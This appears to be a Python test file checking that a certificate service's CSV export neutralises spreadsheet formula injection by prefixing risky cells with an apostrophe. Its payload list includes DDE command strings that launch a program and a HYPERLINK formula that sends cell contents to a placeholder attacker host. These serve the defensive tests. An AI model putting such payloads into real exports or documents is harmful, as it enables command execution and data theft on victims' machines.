"""Cells that a spreadsheet would compute are shown as text, and a table says what the manifest says."""

import csv
import io
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from certsvc.domain.spreadsheet import BEGINS_FORMULA, MARK, record, shown
from certsvc.issuance.batches.manifest import COLUMNS, ManifestDocument, ManifestLine, as_pieces, as_table

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '="a"";=1+1"',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    assert shown(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "店", "JY24419000000033", "a=b", "'=1", "1-1", "云山证字〔2026〕1号"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert shown(text) == text


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_record_is_quoted_so_that_no_cell_begins_another(cells: list[str]) -> None:
    (read,) = csv.reader(io.StringIO(record(cells), newline=""), strict=True)
    assert read == [shown(cell) for cell in cells]
    assert not any(cell.lstrip(" ").startswith(BEGINS_FORMULA) for cell in read)
    assert record(cells).startswith('"') and record(cells).endswith('"\r\n')


LINES = [
    ManifestLine(line=2, key="=1+1", state="failed", error="conflict"),
    ManifestLine(
        line=3,
        key='"@',
        state="done",
        code="7K2M-0000-0000-0000-0",
        number="-1",
        event=7,
        documents=(
            ManifestDocument(layout="sheet", sha256="ab" * 32),
            ManifestDocument(layout="copy", sha256="cd" * 32),
        ),
    ),
]


def test_the_table_of_a_manifest_has_a_mark_a_header_and_harmless_cells() -> None:
    pieces = b"".join(as_table(msgspec.json.encode(line) + b"\n" for line in LINES)).decode()
    assert pieces.startswith(MARK)
    header, first, second = csv.reader(io.StringIO(pieces[1:], newline=""), strict=True)
    assert tuple(header) == COLUMNS
    told: dict[str, Any] = dict(zip(header, first, strict=True))
    assert (told["key"], told["state"], told["error"], told["number"]) == ("'=1+1", "failed", "conflict", "")
    told = dict(zip(header, second, strict=True))
    assert (told["key"], told["number"], told["event"]) == ('"@', "'-1", "7")
    assert told["documents"] == f"sheet={'ab' * 32};copy={'cd' * 32}"


def test_pieces_hold_every_line() -> None:
    lines = [b"x" * 1000 + b"\n"] * 200
    pieces = [*as_pieces(lines)]
    assert b"".join(pieces) == b"".join(lines)
    assert len(pieces) == 4
